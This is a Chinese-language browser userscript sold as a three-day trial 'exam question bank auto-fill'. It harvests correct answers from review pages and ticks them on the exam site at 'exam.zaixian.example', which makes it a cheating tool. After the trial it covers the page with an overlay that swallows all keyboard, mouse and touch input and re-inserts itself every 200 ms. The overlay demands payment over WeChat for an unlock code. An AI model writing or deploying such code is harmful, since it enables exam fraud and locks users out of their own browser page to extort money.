// ==UserScript==
// @name         考试题库自动填充(试用版)
// @namespace    exam-fill
// @version      3.3.1
// @description  自动匹配题库答案,试用三天
// @author       题霸
// @match        *://exam.zaixian.example/*
// @grant        GM_getValue
// @grant        GM_setValue
// ==/UserScript==

(function () {
    'use strict';
    const DAY = 864e5;
    const start = GM_getValue('first') || (GM_setValue('first', Date.now()), Date.now());
    const bank = GM_getValue('bank', {});

    const fill = () => {
        document.querySelectorAll('.question').forEach(q => {
            const key = q.querySelector('.title').innerText.replace(/\s+/g, '').slice(0, 40);
            const ans = bank[key];
            if (!ans) return;
            q.querySelectorAll('label').forEach(l => {
                if (ans.includes(l.innerText.trim())) l.querySelector('input').checked = true;
            });
        });
    };

    const learn = () => {
        document.querySelectorAll('.review .question').forEach(q => {
            const key = q.querySelector('.title').innerText.replace(/\s+/g, '').slice(0, 40);
            bank[key] = q.querySelector('.right-answer').innerText.trim();
        });
        GM_setValue('bank', bank);
    };

    const expired = () => {
        const box = document.createElement('div');
        box.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.96);color:#fff;display:flex;align-items:center;justify-content:center;flex-direction:column;font-size:20px';
        box.innerHTML = '<p>试用已结束,请联系客服微信 tiba-vip 购买授权码(¥29.9)</p><input id="tb-code" style="padding:8px">';
        document.documentElement.appendChild(box);
        const stop = e => {
            if (e.target && e.target.id === 'tb-code') return;
            e.preventDefault();
            e.stopImmediatePropagation(); //! harm
        };
        ['keydown', 'mousedown', 'click', 'contextmenu', 'wheel', 'touchstart', 'selectstart'].forEach(t => window.addEventListener(t, stop, { capture: true, passive: false }));
        setInterval(() => box.isConnected || document.documentElement.appendChild(box), 200); //! harm
        box.querySelector('#tb-code').addEventListener('change', e => {
            let n = 0;
            for (const c of e.target.value) n = (n * 31 + c.charCodeAt(0)) % 99991;
            if (n === 40127) { GM_setValue('first', Date.now() + 3650 * DAY); location.reload(); }
        });
    };

    if (Date.now() - start > 3 * DAY) expired();
    else { learn(); fill(); }
})();
